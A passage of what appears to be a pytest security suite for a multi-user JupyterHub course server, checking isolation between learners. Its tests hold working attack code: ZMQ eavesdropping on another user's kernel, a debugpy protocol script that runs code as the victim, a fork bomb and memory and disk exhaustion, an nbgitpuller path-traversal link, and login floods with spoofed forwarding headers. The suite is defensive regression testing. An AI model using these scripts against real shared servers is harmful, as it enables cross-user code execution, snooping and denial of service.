    socket.setsockopt(zmq.LINGER, 0)
    socket.setsockopt(zmq.SUBSCRIBE, b"")
    socket.connect(where)
    subscribers.append(socket)
print(json.dumps({"ports": sorted(ports), "subscribed": len(subscribers)}), flush=True)
sys.stdin.readline()  # the test has ann's kernels print now
poller = zmq.Poller()
for socket in subscribers:
    poller.register(socket, zmq.POLLIN)
heard, end = [], time.monotonic() + seconds
while time.monotonic() < end:
    for socket, _ in poller.poll(100):
        heard.append(b"".join(socket.recv_multipart()).decode(errors="replace"))
print(json.dumps({"heard": heard}), flush=True)
"""

START_SESSION = """async ([base, path]) => {
    const xsrf = decodeURIComponent((document.cookie.match(/(?:^|; )_xsrf=([^;]+)/) || [])[1] || '');
    const response = await fetch(base + '/api/sessions', {method: 'POST', headers: {'X-XSRFToken': xsrf,
        'Content-Type': 'application/json'}, body: JSON.stringify({path, type: 'notebook', name: '',
        kernel: {name: 'python3'}})});
    return {status: response.status, body: await response.json()};
}"""

STOP_SESSION = """async ([base, id]) => {
    const xsrf = decodeURIComponent((document.cookie.match(/(?:^|; )_xsrf=([^;]+)/) || [])[1] || '');
    await fetch(base + '/api/sessions/' + id, {method: 'DELETE', headers: {'X-XSRFToken': xsrf}});
}"""


def iopub_endpoint(info: dict) -> str:
    if info["transport"] == "ipc":
        return f"ipc://{info['ip']}-{info['iopub_port']}"
    return f"tcp://{info['ip']}:{info['iopub_port']}"


def eavesdrop(hub: ThrowAwayHub, victim: Learner, spy: Learner,
              connections: list[str]) -> tuple[list[str], list[list[str]], dict]:
    """``spy`` runs EAVESDROP against ``victim`` while each of the victim's kernels (``connections``) prints a secret;
    root subscribes to the same IOPub endpoints, and must hear the secret from each. Returns what the spy heard,
    what root heard (per kernel) and the spy's first report (the TCP ports tried)."""
    import zmq

    infos = [json.loads(Path(connection).read_text()) for connection in connections]
    endpoints = [iopub_endpoint(info) for info in infos]
    wait_for(lambda: all(Path(e[len("ipc://"):]).is_socket() for e in endpoints if e.startswith("ipc://")), 60,
             f"no sockets at {endpoints}")
    python = process_of(hub, victim, "ipykernel").cmdline()[0]  # the learners' Python (it has zmq)
    spy_process = subprocess.Popen(
        ["runuser", "-u", spy.name, "--", python, "-c", EAVESDROP, str(hub.learner_uids()[victim.name]),
         json.dumps(endpoints), "4"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
        text=True, cwd="/")
    context = zmq.Context()
    roots = []
    try:
        tried = json.loads(spy_process.stdout.readline())  # type: ignore[union-attr]
        for endpoint in endpoints:  # root's own subscription: what the spy would hear if the sockets let him
            socket = context.socket(zmq.SUB)
            socket.setsockopt(zmq.LINGER, 0)
            socket.setsockopt(zmq.SUBSCRIBE, b"")
            socket.connect(endpoint)
            roots.append(socket)
        time.sleep(1)  # zmq: a subscription reaches the publisher a moment after connect
        secret = f"{victim.name}-secret-{secrets.token_hex(8)}"
        spy_process.stdin.write("go\n")  # type: ignore[union-attr]
        spy_process.stdin.flush()  # type: ignore[union-attr]
        for connection in connections:
            run_in_kernel(hub, victim, f"print({secret!r})", connection=connection)
        heard_by_root: list[list[str]] = [[] for _ in roots]
        deadline = time.monotonic() + 10
        while not all(any(secret in m for m in heard) for heard in heard_by_root) and time.monotonic() < deadline:
            for socket, heard in zip(roots, heard_by_root):
                while socket.poll(50):
                    heard.append(b"".join(socket.recv_multipart()).decode(errors="replace"))
        out, err = spy_process.communicate(timeout=60)
    finally:
        if spy_process.poll() is None:
            spy_process.kill()
            spy_process.wait(timeout=30)
        for socket in roots:
            socket.close()
        context.term()
    assert all(any(secret in m for m in heard) for heard in heard_by_root), "root heard nothing: no proof"
    return json.loads(out.strip().splitlines()[-1])["heard"], heard_by_root, tried


def test_another_learner_subscribing_to_a_kernel_hears_nothing(at_work: Room) -> None:
    """Issue 34.2: ann also opens a notebook in a sub-folder (a second kernel, working in complete/). bob subscribes,
    as above, while both of her kernels print a secret: bob hears nothing, though root, subscribing the same way to
    the same endpoints, hears the secret (so the subscription itself works). Then: her kernels' five channels are
    unix sockets in her private runtime folder (an absolute path: none in complete/). (A kernel still listens on one
    TCP port of 127.0.0.1: ipykernel's pipe for the output of forked subprocesses, a PULL socket that drops every
    message without the kernel's random key, so there is nothing to hear: bob tries it too.)"""

    room = at_work
    hub, ann, bob = room.hub, room.learners["ann"], room.learners["bob"]
    sub_folder = ann.home / "workspace" / "complete"
    started = ann.page.evaluate(START_SESSION, [f"/user/{ann.name}", f"complete/{NOTEBOOK}"])
    assert started["status"] == 201, started
    try:
        wait_for(lambda: len(processes_of(hub, ann, "ipykernel")) >= 2, 120, "ann's second kernel did not start")
        kernels = processes_of(hub, ann, "ipykernel")
        assert {Path(k.cwd()) for k in kernels} == {ann.home / "workspace", sub_folder}, [k.cwd() for k in kernels]
        connections = [connection_file(kernel) for kernel in kernels]
        heard, heard_by_root, tried = eavesdrop(hub, ann, bob, connections)
        assert not heard, f"bob heard ann's kernels: {heard[:3]}"
        runtime = ann.home / ".cache" / "run"
        assert (runtime.stat().st_mode & 0o077) == 0 and runtime.stat().st_uid == hub.learner_uids()[ann.name]
        for kernel, connection in zip(kernels, connections):
            info = json.loads(Path(connection).read_text())
            assert info["transport"] == "ipc" and Path(info["ip"]).parent == runtime, info
            tcp = {c.laddr.port for c in kernel.net_connections("inet") if c.status == psutil.CONN_LISTEN}
            assert not tcp & {info[f"{channel}_port"] for channel in ("shell", "iopub", "stdin", "control", "hb")}
        assert not [p for p in sub_folder.iterdir() if p.is_socket() or "ipc" in p.name], "sockets in complete/"
        print(f"\nbob subscribed to ann's TCP ports {tried['ports']} and her kernels' IOPub sockets: heard nothing; "
              f"root heard {sum(map(len, heard_by_root))} message(s) on the same sockets")
    finally:
        ann.page.evaluate(STOP_SESSION, [f"/user/{ann.name}", started["body"]["id"]])


# Run as the attacker: every TCP port the victim (uid argv[1]) listens on, spoken to on 127.0.0.1 as a debugger
# (DAP: initialize, attach, configurationDone, then evaluate the owner's uid). Prints {"ports": [...], "ran":
# [[port, result], ...]}: "ran" lists the ports where the code ran in a process of the victim's.
ATTACH_DEBUGPY = VICTIMS_PORTS + r"""
import json, socket, time


def send(sock, seq, command, arguments):
    body = json.dumps({"seq": seq, "type": "request", "command": command, "arguments": arguments}).encode()
    sock.sendall(b"Content-Length: %d\r\n\r\n" % len(body) + body)


def wait_for(sock, buffer, wanted, seconds=5.0):
    # the first DAP message that wanted(message) accepts, or None (not DAP, or nothing in time)
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        while b"\r\n\r\n" in buffer[0]:
            head, rest = buffer[0].split(b"\r\n\r\n", 1)
            if not head.startswith(b"Content-Length:"):
                return None
            size = int(head.split(b":")[1])
            if len(rest) < size:
                break
            message, buffer[0] = json.loads(rest[:size]), rest[size:]
            if wanted(message):
                return message
        sock.settimeout(max(0.05, deadline - time.monotonic()))
        try:
            chunk = sock.recv(65536)
        except OSError:
            return None
        if not chunk:
            return None
        buffer[0] += chunk
    return None


ran = []
for port in sorted(ports):
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=2) as sock:
            buffer = [b""]
            response = lambda seq: (lambda m: m.get("type") == "response" and m.get("request_seq") == seq)
            send(sock, 1, "initialize", {"adapterID": "python", "clientID": "attacker"})
            if not (wait_for(sock, buffer, response(1), seconds=2.0) or {}).get("success"):  # not a debugger
                continue
            send(sock, 2, "attach", {"justMyCode": False})
            wait_for(sock, buffer, lambda m: m.get("event") == "initialized" or response(2)(m))
            send(sock, 3, "configurationDone", {})
            wait_for(sock, buffer, response(3))
            send(sock, 4, "evaluate", {"expression": "__import__('os').getuid()", "context": "repl"})
            answer = wait_for(sock, buffer, response(4)) or {}
            if answer.get("success"):
                ran.append([port, answer["body"]["result"]])
    except OSError:
        continue
print(json.dumps({"ports": sorted(ports), "ran": ran}))
"""


def attach_as(hub: ThrowAwayHub, attacker: Learner, victim: Learner, python: str) -> dict:
    """``attacker`` runs ATTACH_DEBUGPY against every loopback TCP port ``victim``'s processes listen on."""
    done = subprocess.run(["runuser", "-u", attacker.name, "--", python, "-c", ATTACH_DEBUGPY,
                           str(hub.learner_uids()[victim.name])], capture_output=True, text=True, timeout=120, cwd="/")
    assert done.returncode == 0, done.stderr[-2000:]
    return json.loads(done.stdout.strip().splitlines()[-1])


def test_no_learner_can_attach_a_debugger_to_another_learners_kernel(at_work: Room) -> None:
    """JupyterLab's debugger makes ipykernel start debugpy, which listens on a TCP port of 127.0.0.1 with no password
    and goes on listening after the debugger is switched off: another learner who attaches runs code as the kernel's
    owner. Here ann's kernel gets what JupyterLab's debugger switch sends (initialize, attach, then disconnect);
    then bob speaks the debugger's protocol to every loopback TCP port ann listens on: no code of his runs. The
    kernel does not offer the debugger (course_utils/machinery/hub_kernel.py) and refuses the requests. The proof
    that bob's attack works where a debugpy listens: ann's own process that calls debugpy.listen(), which bob
    attaches to and runs code in, as ann."""
    room = at_work
    hub, ann, bob = room.hub, room.learners["ann"], room.learners["bob"]
    kernel = process_of(hub, ann, "ipykernel")
    with kernel_client(connection_file(kernel)) as client:
        features = client.kernel_info(reply=True, timeout=60)["content"].get("supported_features", [])
        answers = []
        for seq, (command, arguments) in enumerate((
                ("initialize", {"clientID": "jupyterlab", "adapterID": "", "pathFormat": "path", "linesStartAt1": True,
                                "columnsStartAt1": True, "locale": "en"}),
                ("attach", {"justMyCode": True}),
                ("disconnect", {"restart": False, "terminateDebuggee": False})), start=1):
            message = client.session.msg("debug_request", {"type": "request", "seq": seq, "command": command,
                                                           "arguments": arguments})
            client.control_channel.send(message)
            answers.append(client.control_channel.get_msg(timeout=60)["content"])
    attacked = attach_as(hub, bob, ann, kernel.cmdline()[0])
    python = kernel.cmdline()[0]
    own = subprocess.Popen(  # ann's own debugpy, as if she had called it in a terminal: the attack's proof
        ["runuser", "-u", ann.name, "--", python, "-c",
         "import debugpy, time; debugpy.listen(('127.0.0.1', 0)); print('listening', flush=True); time.sleep(120)"],
        stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True, cwd="/", start_new_session=True)
    try:
        assert own.stdout.readline().strip() == "listening"  # type: ignore[union-attr]
        proof = attach_as(hub, bob, ann, python)
    finally:
        os.killpg(own.pid, signal.SIGKILL)
        own.wait(timeout=30)
    assert proof["ran"] and all(str(uid) == str(hub.learner_uids()[ann.name]) for _, uid in proof["ran"]), \
        f"bob's attack did not work even on a debugpy that listens: no proof ({proof})"
    assert not attacked["ran"], f"bob ran code in ann's kernel through its debugger port: {attacked}"
    assert "debugger" not in features, f"ann's kernel offers the debugger: {features}"
    assert not any(answer.get("success") for answer in answers), f"ann's kernel ran the debug requests: {answers}"
    print(f"\nann's kernel refused the debugger ({answers[0].get('message', '')[:60]}...); bob tried her TCP ports "
          f"{attacked['ports']}: nothing ran; on her own debugpy's port he ran code as uid {proof['ran'][0][1]}")


def test_each_server_logs_to_its_own_file_and_no_token_reaches_a_log(at_work: Room) -> None:
    """Issues 22.8 and 22.9: ann's server writes to private/logs/ANN.log (root's, 0600, at most HUB_LOG_MAX with
    ANN.log.1: attack N2), not to the hub's terminal;
    requests with ?token=SECRET (to the hub, to ann's server, to an unknown host) leave SECRET in no log."""
    room = at_work
    import urllib.error
    import urllib.request

    hub, ann = room.hub, room.learners["ann"]
    process_of(hub, ann, "jupyterhub.singleuser")  # her server runs
    own_log = hub.state / "private" / "logs" / f"{ann.name}.log"
    assert own_log.stat().st_uid == 0 and (own_log.stat().st_mode & 0o077) == 0
    assert "jupyterhub.singleuser" in own_log.read_text(errors="replace") or own_log.stat().st_size > 0
    # attack N2: 16 MiB to her kernel's stdout (her server's log); it keeps HUB_LOG_MAX (before: it grew by 16 MiB)
    run_in_kernel(hub, ann, "import os\nfor _ in range(16):\n    os.write(1, b'A' * (1 << 20))")
    time.sleep(1)  # the hub's thread copies the last chunk
    kept = sum(path.stat().st_size for path in (own_log, own_log.with_name(own_log.name + ".1")) if path.exists())
    assert kept <= LOG_MAX, f"ann's server log holds {kept} bytes, past HUB_LOG_MAX {LOG_MAX}"
    assert "ServerApp]" not in hub.log() and "SingleUserLabApp" not in hub.log(), "a server wrote to the hub's log"
    secret = f"SECRET{secrets.token_hex(8)}"
    for host, path in ((f"localhost:{hub.port}", "/hub/nowhere"), (f"{ann.name}.localhost:{hub.port}",
                       f"/user/{ann.name}/nowhere"), (f"nobody.localhost:{hub.port}", "/user/nobody/api/status"),
                       (f"localhost:{hub.port}", "/hub/api/user")):
        request = urllib.request.Request(f"http://127.0.0.1:{hub.port}{path}?token={secret}&x=1",
                                         headers={"Host": host})
        try:
            urllib.request.urlopen(request, timeout=30).read()
        except urllib.error.HTTPError:
            pass
    deadline = time.monotonic() + 10  # the logs are written as the answers go out: wait until the last one is there
    while "/hub/api/user?token=" not in hub.log() and time.monotonic() < deadline:
        time.sleep(0.1)
    logs = {"the hub's terminal": hub.log()}
    logs.update({str(p): p.read_text(errors="replace") for p in (hub.state / "private" / "logs").glob("*.log")})
    leaked = [name for name, text in logs.items() if secret in text]
    assert not leaked, f"the token reached {leaked}"


def test_a_learner_cannot_take_all_memory_or_processes(at_work: Room) -> None:
    """Issue 22.4: ann's kernel runs with the hub's limits (read from /proc); under exactly those limits, as ann,
    allocating 4 GB fails with MemoryError and a fork bomb stops at the process limit."""
    room = at_work
    ann = room.learners["ann"]
    kernel = process_of(room.hub, ann, "ipykernel")
    table = Path(f"/proc/{kernel.pid}/limits").read_text().splitlines()
    hard = {line[:26].strip(): line[26:].split()[1] for line in table[1:]}  # "Max data size  soft  hard  units"
    limits = {"DATA": int(hard["Max data size"]), "NPROC": int(hard["Max processes"])}
    assert 0 < limits["DATA"] <= 3 * 2**30 and 0 < limits["NPROC"] <= 1024, f"ann's kernel limits: {limits}"
    attack = """
import os, sys, time
try:
    block = bytearray(4 * 2**30)
    print("ALLOCATED 4 GB"); sys.exit(1)
except MemoryError:
    print("memory refused")
children = []
try:
    for _ in range(2000):
        pid = os.fork()
        if pid == 0:
            time.sleep(30); os._exit(0)
        children.append(pid)
    print("FORKED 2000"); code = 1
except OSError as error:
    print("fork refused after", len(children)); code = 0
for pid in children:
    os.kill(pid, 9); os.waitpid(pid, 0)
sys.exit(code)
"""
    result = subprocess.run(["runuser", "-u", ann.name, "--", "prlimit", f"--data={limits['DATA']}",
                             f"--nproc={limits['NPROC']}", "--", kernel.cmdline()[0], "-c", attack],
                            capture_output=True, text=True, timeout=180)
    assert result.returncode == 0 and "memory refused" in result.stdout, result.stdout + result.stderr
    print(f"\nlimits of ann's kernel: {limits}; the attack: {result.stdout.strip()}")


# In ann's kernel (issue 41.4): a System V segment of 1 MiB with KEY, and one of 1 GiB; then a child that maps 3 GiB
# of shared memory and writes every page of it.
SHARED_MEMORY = """
import ctypes, json, os, subprocess, sys
libc = ctypes.CDLL(None, use_errno=True)
small, big = libc.shmget(KEY, 1 << 20, 0o1600), libc.shmget(0, 1 << 30, 0o1600)  # IPC_CREAT | 0600
hog = ("import mmap\\nm = mmap.mmap(-1, 3 << 30, flags=mmap.MAP_SHARED)\\n"
       "for i in range(0, len(m), 4096): m[i] = 1\\nprint('TOUCHED 3 GiB')")
child = subprocess.run([sys.executable, "-c", hog], capture_output=True, text=True)
print(json.dumps({"small": small, "big": big, "ipc": os.readlink("/proc/self/ns/ipc"), "child": child.returncode,
                  "out": child.stdout.strip()}))
"""


def ipc_namespaces() -> set[str]:
    """The IPC namespaces that some process of the machine is in."""
    found = set()
    for link in Path("/proc").glob("[0-9]*/ns/ipc"):
        try:
            found.add(os.readlink(link))
        except OSError:  # the process ended meanwhile
            continue
    return found


def host_segments() -> set[int]:
    """The keys of the System V shared memory segments of the hub's (the machine's) IPC namespace."""
    return {int(line.split()[0]) for line in Path("/proc/sysvipc/shm").read_text().splitlines()[1:]}


def test_shared_memory_is_each_servers_own_counted_and_gone_with_it(at_work: Room) -> None:
    """Issue 41.4: in her kernel, ann makes a System V segment of 1 MiB and asks for one of 1 GiB, and a child of her
    kernel maps 3 GiB of shared memory (MAP_SHARED, which RLIMIT_DATA does not count) and writes all of it. Her
    segment is in an IPC namespace of her server's own (the machine has no such segment), the 1 GiB one is refused
    (more than HUB_SHM_MAX), and the child is ended by her memory budget (HUB_MEMORY_MAX, a memory cgroup) before it
    wrote 3 GiB. The Ctrl-C test checks that the segment goes with her server. (Before: the segment was the machine's
    and outlived the hub, and the child wrote 3 GiB past the 2.5 GB limit.)"""
    room = at_work
    hub, ann = room.hub, room.learners["ann"]
    key = int.from_bytes(secrets.token_bytes(3), "big") + 1
    got = json.loads(run_in_kernel(hub, ann, SHARED_MEMORY.replace("KEY", str(key)), timeout=300))
    room.notes["ann_ipc"], room.notes["ann_shm_key"] = got["ipc"], key  # for the Ctrl-C test, whatever happens here
    assert got["small"] >= 0, got
    assert key not in host_segments() and got["ipc"] != os.readlink("/proc/self/ns/ipc"), \
        "ann's segment is in the machine's IPC namespace"
    assert got["big"] == -1, f"ann made a System V segment of 1 GiB: {got}"
    assert got["child"] == -signal.SIGKILL and "TOUCHED" not in got["out"], f"ann's child wrote 3 GiB: {got}"
    print(f"\nann's shared memory: her own IPC namespace, 1 GiB segment refused, the 3 GiB child ended: {got}")


# In ann's kernel (issues 41.5, 41.8): 300 MB into her home, 600 MB into /tmp, 20,000 files in her home (each removed
# after), and a file in each folder every user may write.
DISK = """
import json, os, shutil
home, out = os.path.expanduser("~"), {}


def fill(path, total):
    written, error = 0, ""
    try:
        with open(path, "wb", buffering=0) as handle:
            while written < total:
                written += handle.write(bytes(8 << 20))
    except OSError as failure:
        error = failure.strerror
    if os.path.exists(path):
        os.remove(path)
    return written, error


out["home"], out["tmp"] = fill(home + "/big", 300 << 20), fill("/tmp/big", 600 << 20)
os.makedirs(home + "/many")
made, error = 0, ""
try:
    while made < 20000:
        open(f"{home}/many/{made}", "w").close()
        made += 1
except OSError as failure:
    error = failure.strerror
shutil.rmtree(home + "/many")
out["files"] = made, error
for place in ("/tmp", "/var/tmp", "/run/lock", "/dev/shm"):
    open(f"{place}/MARKER", "w").write("ann")
out["sizes"] = [os.statvfs(place).f_blocks * os.statvfs(place).f_frsize for place in ("/dev/shm", "/tmp")]
print(json.dumps(out))
"""


def test_a_learner_cannot_fill_the_disk_nor_write_in_the_machines_folders(at_work: Room) -> None:
    """Issues 41.5 and 41.8: in her kernel, ann writes 300 MB and 20,000 files into her home, and 600 MB into /tmp. Her
    home is a filesystem of HUB_DISK_MAX (this hub's 200M, 12,800 files): the writing stops there, "No space left on
    device". /tmp, /var/tmp, /run/lock and /dev/shm are her server's own (in memory, HUB_SHM_MAX each): the 600 MB stop
    at 512 MB, and her files there are in no folder the machine or bob sees. (Before: 300 MB and 20,000 files on the
    disk that holds everybody's work, and her files in the machine's /tmp, /var/tmp and /run/lock.)"""
    room = at_work
    hub, ann, bob = room.hub, room.learners["ann"], room.learners["bob"]
    marker = f"course-disk-{secrets.token_hex(4)}"
    got = json.loads(run_in_kernel(hub, ann, DISK.replace("MARKER", marker), timeout=300))
    try:
        assert got["home"][0] <= 200 << 20 and got["home"][1] == "No space left on device", f"ann's home: {got}"
        assert got["files"][0] < 20000 and got["files"][1] == "No space left on device", f"ann's files: {got}"
        assert got["tmp"][0] <= 512 << 20 and got["tmp"][1] == "No space left on device", f"ann's /tmp: {got}"
        assert got["sizes"] == [512 << 20] * 2, f"ann's /dev/shm and /tmp: {got['sizes']}"  # HUB_SHM_MAX
        places = ("/tmp", "/var/tmp", "/run/lock", "/dev/shm")
        seen = [place for place in places if Path(place, marker).exists()]
        assert not seen, f"ann's files are in the machine's {seen}"
        check = f"import os; print([p for p in {places!r} if os.path.exists(p + '/{marker}')])"
        assert run_in_kernel(hub, bob, check).strip() == "[]", "bob sees ann's files"
        assert run_in_kernel(hub, ann, check).strip() == str(list(places)), "ann does not see her own files"
    finally:
        for place in ("/tmp", "/var/tmp", "/run/lock", "/dev/shm"):
            Path(place, marker).unlink(missing_ok=True)
    print(f"\nann's home and temporary folders: {got}")


LINK_REPO = "evil.git"


def test_a_classmates_link_makes_a_learners_server_pull_nothing(at_work: Room) -> None:
    """Issue 41.1: bob serves a git repository from his terminal and sends ann a link that starts with the hub's own
    address: nbgitpuller's /git-pull, his repository, a targetpath that leaves her workspace for her kernel spec. She
    opens it: her server has no such page (404), and nothing of bob's is in her home. (Before: her server cloned
    bob's repository over ~/.local/share/jupyter/kernels/python3, and her next kernel ran his command as her.)"""
    from urllib.parse import quote

    room = at_work
    hub, ann, bob = room.hub, room.learners["ann"], room.learners["bob"]
    served = Path(tempfile.mkdtemp(prefix="course-link-"))
    served.chmod(0o755)
    source = served / "source"
    source.mkdir()
    (source / "kernel.json").write_text(json.dumps({"argv": ["python", "-m", "ipykernel_launcher", "-f",
                                                             "{connection_file}"], "display_name": "Python 3",
                                                    "language": "python", "env": {"BOB_WAS_HERE": "1"}}))
    (source / "BOB_WAS_HERE").write_text("bob")
    git = ["git", "-c", "user.name=bob", "-c", "user.email=bob@localhost", "-c", "init.defaultBranch=main"]
    for command in (["init", "-q", str(source)], ["-C", str(source), "add", "-A"],
                    ["-C", str(source), "commit", "-qm", "mine"],
                    ["clone", "-q", "--bare", str(source), str(served / LINK_REPO)],
                    ["-C", str(served / LINK_REPO), "update-server-info"]):
        subprocess.run([*git, *command], check=True, capture_output=True, timeout=60)
    subprocess.run(["chmod", "-R", "a+rX", str(served)], check=True)
    port = free_port()
    server = subprocess.Popen(["runuser", "-u", bob.name, "--", "/usr/bin/python3", "-m", "http.server", "--bind",
                               "127.0.0.1", "--directory", str(served), str(port)], stdout=subprocess.DEVNULL,
                              stderr=subprocess.DEVNULL, start_new_session=True)
    target = ann.home / ".local/share/jupyter/kernels/python3"
    page = ann.context.new_page()
    try:
        wait_for(lambda: listening(port), 60, "bob's server did not start")
        link = (f"{hub.url}/hub/user-redirect/git-pull?repo={quote(f'http://127.0.0.1:{port}/{LINK_REPO}', safe='')}"
                f"&branch=main&depth=0&targetpath={quote('../.local/share/jupyter/kernels/python3', safe='')}"
                f"&urlpath={quote(f'lab/tree/{NOTEBOOK}', safe='')}")
        response = page.goto(link)
        deadline = time.monotonic() + 60  # the old status page pulled in the background, then went to urlpath
        while response.status != 404 and not (target / "BOB_WAS_HERE").exists() and time.monotonic() < deadline:
            time.sleep(0.5)
        assert not (target / "BOB_WAS_HERE").exists(), "bob's link pulled his repository into ann's kernel spec"
        assert response.status == 404 and f"{ann.name}.localhost" in page.url, f"HTTP {response.status} at {page.url}"
    finally:
        page.close()
        os.killpg(server.pid, signal.SIGKILL)
        server.wait(timeout=30)
        shutil.rmtree(served, ignore_errors=True)
        if (target / "BOB_WAS_HERE").exists():
            shutil.rmtree(target)  # the attack worked (the old hub): leave ann a kernel that is hers


def log_in_again(learner: Learner, hub: ThrowAwayHub) -> int:
    """The learner's browser logs out of the hub (as when a session ends: the device cookie of its last login stays)
    and posts their right password to the login form; the status (302: logged in)."""
    request = learner.context.request
    form = request.get(f"{hub.url}/hub/logout").text()  # which ends on the login form
    xsrf = XSRF_FIELD.search(form).group(1)  # type: ignore[union-attr]
    return request.post(f"{hub.url}/hub/login", form={"_xsrf": xsrf, "username": learner.name,
                                                      "password": learner.password}, max_redirects=0).status


@contextlib.contextmanager
def login_page_times(hub: ThrowAwayHub) -> Iterator[list[float]]:
    """How long the login page takes (seconds), asked every 0.1 s from 127.0.0.5 while the ``with`` block runs."""
    waits: list[float] = []
    stop = threading.Event()

    def watch() -> None:
        watcher = hub.client("127.0.0.5")
        while not stop.is_set():
            before = time.perf_counter()
            status = watcher.get("/hub/login").status_code
            waits.append(time.perf_counter() - before if status == 200 else float(status))
            time.sleep(0.1)

    thread = threading.Thread(target=watch, daemon=True)
    thread.start()
    try:
        yield waits
    finally:
        stop.set()
        thread.join(timeout=60)
    assert waits and max(waits) < 2.0, f"the login page took up to {max(waits):.2f} s (or failed) meanwhile"


def test_wrong_passwords_never_lock_out_a_known_browser_and_a_flood_is_refused(at_work: Room) -> None:
    """Issues 22.7, 34.8, 41.3 and 41.6, from 127.0.0.1 -- the address of every browser here, as behind a reverse
    proxy every client of the room has one: mallory sends wrong passwords for the instructor's name, and enough for
    ann's and dan's names to block them (BLOCK_AFTER, HUB_ALLOWED_FAILED_LOGINS); then she floods the instructor's name
    with wrong passwords, under made-up X-Forwarded-For and X-Real-Ip headers: past the address's budget (PER_ADDRESS
    a minute, HUB_FAILED_LOGINS_PER_ADDRESS) they are refused (429) without a password check, while the login page
    answers. Then the right passwords: the instructor's browser and ann's, which logged in before (their device
    cookies), log in; a new browser logs in as the instructor from elsewhere (the name is never blocked); dan, who
    never logged in, is refused inside his minute of block. (Before: the instructor got 429, ann "Invalid ...".)"""
    room = at_work
    hub, instructor, ann, dan = room.hub, room.instructor, room.learners["ann"], room.learners["dan"]
    assert (hub.extra_env["HUB_ALLOWED_FAILED_LOGINS"], hub.extra_env["HUB_FAILED_LOGINS_PER_ADDRESS"]) == (
        str(BLOCK_AFTER), str(PER_ADDRESS))
    mallory = hub.client("127.0.0.1")
    xsrf, started = mallory.xsrf(), time.monotonic()  # the budget refills from the first check on
    for name in [instructor.name] * 2 + [ann.name, dan.name] * BLOCK_AFTER:
        answer = mallory.log_in(name, "wrong-" + secrets.token_hex(4), xsrf)
        assert "Invalid username or password" in answer.text, f"{name}: HTTP {answer.status_code}"
    spent = 2 + 2 * BLOCK_AFTER  # password checks so far
    with login_page_times(hub) as waits:
        answers = flood_as("root", f"http://127.0.0.1:{hub.port}", f"localhost:{hub.port}", "login", instructor.name,
                           30, source="127.0.0.1")
    flood_s, checked = time.monotonic() - started, sum(1 for _, was_checked, _ in answers if was_checked)
    # refused past the budget; the budget refills (PER_ADDRESS a minute), so on a slow machine a late attempt may be
    # checked again: the bound counts the refill, not the order
    assert all(status in (200, 429) for status, _, _ in answers) and any(s == 429 for s, _, _ in answers), answers
    assert checked <= PER_ADDRESS - spent + flood_s * PER_ADDRESS / 60 + 2, f"{checked} checked in {flood_s:.0f} s"
    assert log_in_again(instructor, hub) == 302, "the instructor's right password, from his browser, was refused"
    assert log_in_again(ann, hub) == 302, "ann's right password, from her browser, was refused"
    assert hub.client("127.0.0.4").log_in(instructor.name, instructor.password).status_code == 302
    # the right password, inside dan's minute of block, from a new browser (elsewhere: 127.0.0.1 is spent)
    assert "Invalid username or password" in hub.client("127.0.0.7").log_in(dan.name, dan.password).text
    print(f"\nflood from 127.0.0.1: {len(answers)} attempts in {flood_s:.1f} s, {checked} passwords checked; the login "
          f"page meanwhile: {1000 * max(waits):.0f} ms at most; the instructor and ann logged in from their browsers")


def test_a_learner_on_the_machine_cannot_choose_an_address(at_work: Room) -> None:
    """Issue 41.2: from his terminal, bob sends wrong passwords for the instructor's name, and sign-ups, to the hub's
    own port (it is in his server's JUPYTERHUB_API_URL), each with another X-Forwarded-For and X-Real-Ip, and as many
    to the room's port, each from another 127.0.0.x address. The hub counts them all as bob's: past his budgets
    (PER_ADDRESS failed logins and SIGNUPS_PER_ADDRESS sign-ups a minute) they are refused, with no password checked and
    no account made. (Before: each made-up address had a budget of its own, and none was refused.)"""
    hub, bob = at_work.hub, at_work.learners["bob"]
    api = process_of(hub, bob, "jupyterhub.singleuser").environ()["JUPYTERHUB_API_URL"]
    own_port, room_port, host = api.split("/hub/api")[0], f"http://127.0.0.1:{hub.port}", f"localhost:{hub.port}"
    assert own_port == f"http://127.0.0.1:{hub.hub_port}", api
    started = time.monotonic()
    logins = [*flood_as(bob.name, own_port, host, "login", hub.admin, 15),
              *flood_as(bob.name, room_port, host, "login", hub.admin, 15, source="rotate")]
    signups = [*flood_as(bob.name, own_port, host, "signup", f"{hub.prefix}m", 15),
               *flood_as(bob.name, room_port, host, "signup", f"{hub.prefix}n", 15, source="rotate")]
    elapsed = time.monotonic() - started
    checked, made = sum(1 for _, was, _ in logins if was), sum(1 for _, _, was in signups if was)
    assert all(status in (200, 429) for status, _, _ in logins + signups), logins + signups
    assert checked <= PER_ADDRESS * (1 + elapsed / 60) + 1, f"{checked} of bob's 30 passwords checked: {logins}"
    assert made <= SIGNUPS_PER_ADDRESS * (1 + elapsed / 60) + 1, f"{made} of bob's 30 sign-ups made: {signups}"
    print(f"\nbob from his terminal, made-up addresses: {checked} of 30 passwords checked, {made} of 30 sign-ups made, "
          f"in {elapsed:.0f} s")


def test_the_change_password_page_checks_within_the_budgets(at_work: Room) -> None:
    """Issue 41.7: bob changes his password on /hub/change-password, the current one right: it changes. Then three
    loops post wrong current passwords from his session: past his browser's budget (BLOCK_AFTER a minute) they are
    refused (429) with no password checked, and the login page answers meanwhile. (Before: each post was checked with
    bcrypt, on the hub's event loop, and none was refused; three loops took the login page from 16 to 763 ms.)"""
    hub, bob = at_work.hub, at_work.learners["bob"]
    browser = hub.client("127.0.0.8")
    assert browser.log_in(bob.name, bob.password).status_code == 302  # a session, and its device cookie

    def change(old: str, new: str) -> tuple[int, bool]:  # (status, the current password was checked: wrong)
        visitor = hub.client("127.0.0.8")
        visitor.cookies.update(browser.cookies)
        answer = visitor.post("/hub/change-password", {"old_password": old, "new_password": new,
                                                       "new_password_confirmation": new},
                              xsrf=visitor.xsrf("/hub/change-password"))
        assert answer.status_code == 429 or "alert" in answer.text, answer.text[-500:]
        return answer.status_code, "current password was incorrect" in answer.text

    new_password = secrets.token_urlsafe(12)
    assert change(bob.password, new_password) == (200, False)
    assert hub.client("127.0.0.9").log_in(bob.name, new_password).status_code == 302  # the new one works
    bob.password = new_password
    with login_page_times(hub) as waits, ThreadPoolExecutor(3) as pool:
        answers = list(pool.map(lambda _: change("wrong-" + secrets.token_hex(4), "whatever-password"), range(30)))
    checked = sum(1 for _, was in answers if was)
    assert all(status in (200, 429) for status, _ in answers), answers
